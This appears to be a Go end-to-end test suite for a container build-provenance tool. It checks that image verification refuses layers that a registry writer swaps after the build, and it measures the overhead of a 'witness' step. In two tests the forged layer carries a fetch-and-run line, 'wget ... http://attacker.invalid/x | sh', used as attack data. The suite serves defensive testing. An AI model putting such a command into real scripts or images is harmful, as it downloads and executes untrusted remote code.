package e2e

import (
	"archive/tar"
	"context"
	"strings"
	"testing"
	"time"

	"github.com/buildtrace/buildtrace/test/lab"
)

// TestWitnessTrailingCopySwap: the layers above the last traced RUN of the
// final stage (the `FROM scratch` + `COPY --from=build` shape) were bound
// only by their place in the signed plan: buildkitd makes them and no
// traced process ran on them. A registry writer replaces the COPY layer's
// content (manifest and config diff_ids rewritten consistently) and verify
// accepted it. The frontend now runs a witness step on every platform's
// result; the tracer signs the diff digests of the layers it ran on, and
// verify requires them to be the image's layers (docs/threat-model.md).
//
// The second part gives content to the layer of a trailing WORKDIR.
func TestWitnessTrailingCopySwap(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	n := randHex(6)

	t.Run("FROM scratch, COPY --from swapped", func(t *testing.T) {
		body := "FROM BASE AS build\nRUN mkdir /app && echo 'echo honest " + n + "' > /app/run.sh\n" +
			"FROM scratch\nCOPY --from=build /app /app\n"
		dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, body)})
		honest := l.Ref("witness")
		l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: honest, Push: true})
		out, code := runCLI(t, l, "verify", honest, "--key", l.TracerPub)
		expectCode(t, out, code, 0, "verify", honest)
		t.Logf("honest build:\n%s", out)
		witnessAllBound(t, out)

		img := l.Image(t, ctx, honest)
		i := len(img.Manifests[0].Manifest.Layers) - 1 // FROM scratch: the COPY's is the only one
		forged := l.Ref("witness")
		rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
			for k := range es {
				if strings.HasSuffix(es[k].h.Name, "run.sh") {
					es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
				}
			}
			return es
		})
		witnessRefused(t, ctx, l, forged, i)
	})

	t.Run("trailing WORKDIR layer given content", func(t *testing.T) {
		// WORKDIR on a directory the RUN made: BuildKit exports a layer
		// that changes only the directory's time ("directory times
		// only"), bound by its place in the plan.
		body := "FROM BASE\nRUN mkdir -p /w && echo " + n + " > /hi\nWORKDIR /w\n"
		dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, body)})
		honest := l.Ref("witness")
		l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: honest, Push: true})
		out, code := runCLI(t, l, "verify", honest, "--key", l.TracerPub)
		expectCode(t, out, code, 0, "verify", honest)
		t.Logf("honest build:\n%s", out)
		witnessAllBound(t, out)

		img := l.Image(t, ctx, honest)
		i := len(img.Manifests[0].Manifest.Layers) - 1
		forged := l.Ref("witness")
		rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
			return append(es, rtEnt{&tar.Header{Name: "hi", Typeflag: tar.TypeReg, Mode: 0o644}, []byte("evil\n")})
		})
		witnessRefused(t, ctx, l, forged, i)
	})
}

// witnessAllBound requires verify's summary to bind no layer by plan
// position only.
func witnessAllBound(t *testing.T, out string) {
	t.Helper()
	if !strings.Contains(out, "by plan position only 0,") {
		t.Errorf("the honest build has layers bound by plan position only:\n%s", out)
	}
}

// witnessRefused requires verify to refuse forged for its binding, naming
// its layer i.
func witnessRefused(t *testing.T, ctx context.Context, l *lab.Lab, forged string, i int) {
	t.Helper()
	layer := l.Image(t, ctx, forged).Manifests[0].Manifest.Layers[i].Digest
	out, code := runCLI(t, l, "verify", forged, "--key", l.TracerPub)
	if code == 0 {
		t.Errorf("ATTACK WORKS: verify accepts the image with a layer above the last traced RUN replaced:\n%s", out)
		return
	}
	t.Logf("verify %s: exit %d (refused)\n%s", forged, code, out)
	if !strings.Contains(out, "[binding]") {
		t.Errorf("verify refuses the forgery, but not for its binding:\n%s", out)
	}
	if !strings.Contains(out, layer.String()) {
		t.Errorf("verify refuses the forgery without naming its layer %s:\n%s", layer, out)
	}
}

// TestWitnessCachedRebuild: on an identical rebuild the witness runs again
// (it is never served from BuildKit's cache: the evidence of an earlier run
// could be another build's, on other layers; redteam16), and binds the
// rebuild's layers, every one of them. It also logs what the witness costs
// an uncached build (the same build with BUILDTRACE_WITNESS=off).
func TestWitnessCachedRebuild(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	shape := func(n string) string {
		return dockerfile(l, "FROM BASE AS build\nRUN mkdir /app && echo 'echo "+n+"' > /app/run.sh\n"+
			"FROM scratch\nCOPY --from=build /app /app\n")
	}
	n := randHex(6)
	dir := lab.WriteContext(t, map[string]string{"Dockerfile": shape(n)})
	first := l.Ref("witness-cached")
	res := l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: first, Push: true})
	t.Logf("first build: %s", res.Duration)
	again := l.Ref("witness-cached")
	res = l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: again, Push: true})
	t.Logf("rebuild: %s", res.Duration)
	if !strings.Contains(res.Output, "[buildtrace] witness linux/amd64") {
		t.Errorf("the rebuild shows no witness step:\n%s", res.Output)
	}
	out, code := runCLI(t, l, "verify", again, "--key", l.TracerPub)
	expectCode(t, out, code, 0, "verify", again)
	t.Logf("rebuild:\n%s", out)
	witnessAllBound(t, out)
	if !strings.Contains(out, "witness executed") {
		t.Errorf("the rebuild's witness did not run:\n%s", out)
	}

	// Cost: uncached builds of the same shape (a new RUN each), with and
	// without the witness, alternated.
	var on, off time.Duration
	const rounds = 3
	for i := 0; i < rounds; i++ {
		for _, w := range []string{"on", "off"} {
			dir := lab.WriteContext(t, map[string]string{"Dockerfile": shape(randHex(6))})
			res := l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: l.Ref("witness-cost"), Push: true, Args: []string{"--build-arg", "BUILDTRACE_WITNESS=" + w}})
			t.Logf("uncached build, witness %s: %s", w, res.Duration)
			if w == "on" {
				on += res.Duration
			} else {
				off += res.Duration
			}
		}
	}
	t.Logf("mean uncached build: witness on %s, off %s (+%s)", on/rounds, off/rounds, (on-off)/rounds)

	t.Run("without the store the witness still binds", func(t *testing.T) {
		// The RUN is cached with no evidence (unproven: cached.allow), but
		// the witness ran in this build: no layer by plan position.
		wipeTracerStore(t, l)
		third := l.Ref("witness-cached")
		l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: third, Push: true})
		out, code := runCLI(t, l, "verify", third, "--key", l.TracerPub)
		expectCode(t, out, code, 1, "verify", third)
		if strings.Contains(out, "[binding]") || !strings.Contains(out, "[cached]") {
			t.Errorf("verify fails for other than the cached RUN:\n%s", out)
		}
		t.Logf("verify:\n%s", out)
		out, code = runCLI(t, l, "verify", third, "--key", l.TracerPub, "--policy", writePolicy(t, "cached:\n  allow: true\n"))
		expectCode(t, out, code, 0, "verify", third, "cached.allow")
		witnessAllBound(t, out)
		if !strings.Contains(out, "witness executed") {
			t.Errorf("cached.allow: the witness did not run:\n%s", out)
		}
	})
}

// TestWitnessCopyLink: COPY --link makes a merge. A single COPY --link
// layer is a lower of the witness like any other. Consecutive ones are
// inputs of one (flattened) merge, which BuildKit's overlay snapshotter
// applies into one snapshot above their common parent: one lower for
// several image layers, bound by those layers read as one. A registry
// writer who replaces one of them is refused.
func TestWitnessCopyLink(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	n := randHex(6)
	for _, c := range []struct {
		name, final string
		swap        int // the layer (from the end) a registry writer replaces; 0: none
	}{
		{"FROM scratch", "FROM scratch\nCOPY --link --from=build /app /app\n", 0},
		{"link then plain COPY", "FROM BASE\nCOPY --link --from=build /app /app\nCOPY --from=build /app/run.sh /run.sh\n", 0},
		{"two over a RUN", "FROM BASE\nRUN echo " + n + " > /x\nCOPY --link --from=build /app /app\nCOPY --link --from=build /app/run.sh /bin/run.sh\n", -2},
		{"three, one path twice", "FROM BASE\nRUN echo " + n + " > /x\nCOPY --link --from=build /app /app\nCOPY --link --from=build /app /opt/app\nCOPY --link --from=build /app/run.sh /app/run.sh\n", -1},
	} {
		t.Run(c.name, func(t *testing.T) {
			body := "FROM BASE AS build\nRUN mkdir /app && echo 'echo " + n + "' > /app/run.sh\n" + c.final
			dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, body)})
			ref := l.Ref("witness-link")
			l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: ref, Push: true})
			out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub)
			expectCode(t, out, code, 0, "verify", ref)
			t.Logf("verify:\n%s", out)
			witnessAllBound(t, out)
			if !strings.Contains(out, "witness executed") {
				t.Errorf("no witness ran:\n%s", out)
			}
			if c.swap == 0 {
				return
			}
			img := l.Image(t, ctx, ref)
			i := len(img.Manifests[0].Manifest.Layers) + c.swap
			forged := l.Ref("witness-link")
			rtRetarLayer(t, ctx, img, forged, i, func(es []rtEnt) []rtEnt {
				for k := range es {
					if strings.HasSuffix(es[k].h.Name, "run.sh") {
						es[k].data = []byte("wget -q -O- http://attacker.invalid/x | sh\n")
					}
				}
				return es
			})
			witnessRefused(t, ctx, l, forged, i)
		})
	}
}

// TestWitnessTwoPlatforms: one witness per platform's result, the arm64
// one too (its program is the frontend's own, run natively on the
// build host); both images verify with every layer bound.
func TestWitnessTwoPlatforms(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	requireWorkerPlatform(t, l, foreignPlatform)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	n := randHex(6)
	dir := lab.WriteContext(t, map[string]string{"Dockerfile": dockerfile(l, "FROM BASE AS build\nRUN mkdir /app && uname -m > /app/arch && echo "+n+" > /app/n\n"+
		"FROM scratch\nCOPY --from=build /app /app\n")})
	ref := l.Ref("witness-platforms")
	l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: ref, Push: true, Args: []string{"--platform", "linux/amd64," + foreignPlatform}})
	out, code := runCLI(t, l, "verify", ref, "--key", l.TracerPub)
	expectCode(t, out, code, 0, "verify", ref)
	t.Logf("verify:\n%s", out)
	for _, p := range []string{"linux/amd64", foreignPlatform} {
		if !strings.Contains(out, "[buildtrace] witness "+p) {
			t.Errorf("no witness of the %s result:\n%s", p, out)
		}
	}
	if strings.Count(out, "by plan position only 0,") != 2 {
		t.Errorf("a platform has layers bound by plan position only:\n%s", out)
	}
}
